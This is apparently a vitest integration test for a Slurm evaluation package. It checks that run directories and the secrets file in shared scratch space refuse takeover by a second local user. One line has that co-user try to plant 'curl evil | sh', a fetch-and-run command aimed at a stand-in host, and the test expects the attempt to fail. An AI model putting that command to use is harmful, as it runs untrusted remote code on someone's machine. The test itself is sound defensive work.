import { execFileSync } from 'node:child_process';
import {
  connectSsh,
  makeOwnedDirectory,
  type SshTransport,
  UnsafeRemotePathError,
  writeSecretsFile,
} from '@model-eval/slurm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clusterSshOptions, requireCluster } from '../support/cluster';

// Finding: "a co-user can take over the job directory". A second account on the cluster, `evalpeer`,
// is created here with useradd when missing (the tests run as root on the cluster host; it has no
// login and no Slurm association: it only needs to write files). It pre-creates the run directory
// in a shared scratch directory; the cluster account (evalbot, over SSH) must refuse it.
const cluster = requireCluster();
const CO_USER = 'evalpeer';
const stamp = `${process.pid}-${Date.now()}`;
const sticky = `/srv/model-eval-shared-${stamp}`; // like /scratch: 1777
const open = `/srv/model-eval-open-${stamp}`; // a careless shared directory: 0777, not sticky
let transport: SshTransport;

const asCoUser = (script: string, ...args: string[]) =>
  execFileSync('runuser', ['-u', CO_USER, '--', 'sh', '-c', script, 'sh', ...args], { encoding: 'utf8' });

beforeAll(async () => {
  try {
    execFileSync('id', [CO_USER], { stdio: 'ignore' });
  } catch {
    execFileSync('useradd', ['--no-create-home', '--shell', '/usr/sbin/nologin', CO_USER]);
  }
  execFileSync('install', ['-d', '-m', '1777', sticky]);
  execFileSync('install', ['-d', '-m', '0777', open]);
  transport = await connectSsh(clusterSshOptions(cluster));
});
afterAll(async () => {
  execFileSync('rm', ['-rf', '--', sticky, open]);
  await transport?.close();
});

async function refusal(path: string, reuse = false): Promise<UnsafeRemotePathError> {
  const error = await makeOwnedDirectory(transport, path, { reuse }).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(UnsafeRemotePathError);
  return error as UnsafeRemotePathError;
}

describe('a co-user on a shared remote-dir', () => {
  it('a run directory the co-user pre-created world-writable makes the run refuse, with a clear message', async () => {
    const runDir = `${sticky}/run-${stamp}`;
    asCoUser('mkdir -m 777 "$1" && chmod 777 "$1"', runDir);
    // What the old code did: `mkdir -p -m 700` succeeds and leaves the co-user's 0777 directory.
    const old = await transport.exec(['mkdir', '-p', '-m', '700', '--', runDir]);
    expect(old.exitCode).toBe(0);
    expect((await transport.exec(['stat', '-c', '%U %a', runDir])).stdout.trim()).toBe(`${CO_USER} 777`);

    const fresh = await refusal(runDir);
    expect(fresh.reason).toBe('exists');
    expect(fresh.message).toMatch(/already exists \(owner uid \d+, mode 777\)/);
    expect(fresh.hint).toMatch(/another user/);
    // Reattaching checks owner and mode before reading anything.
    const reattach = await refusal(runDir, true);
    expect(reattach.reason).toBe('not-owned');
  });

  it('a directory the account created is 0700: the co-user cannot plant or swap the secrets file', async () => {
    const runDir = `${sticky}/mine-${stamp}`;
    expect(await makeOwnedDirectory(transport, runDir)).toEqual({ path: runDir, created: true });
    expect((await transport.exec(['stat', '-c', '%U %a', runDir])).stdout.trim()).toBe(`${cluster.user} 700`);
    await writeSecretsFile(transport, { runDir, key: 'k', secrets: { HF_TOKEN: 'hf_x' } });
    expect((await transport.exec(['stat', '-c', '%a', `${runDir}/.secrets-k.env`])).stdout.trim()).toBe(
      '600',
    );
    expect(() => asCoUser('echo "curl evil | sh" > "$1/.secrets-k.env"', runDir)).toThrow();
    expect(() => asCoUser('mv "$1" "$1.gone"', runDir)).toThrow(); // sticky parent: no rename
    expect(await makeOwnedDirectory(transport, runDir, { reuse: true })).toEqual({
      path: runDir,
      created: false,
    });
  });

  it('a parent other users can write without the sticky bit is refused (they could swap the directory)', async () => {
    const error = await refusal(`${open}/run-${stamp}`);
    expect(error.reason).toBe('writable-parent');
    expect(error.message).toContain(open);
  });
});
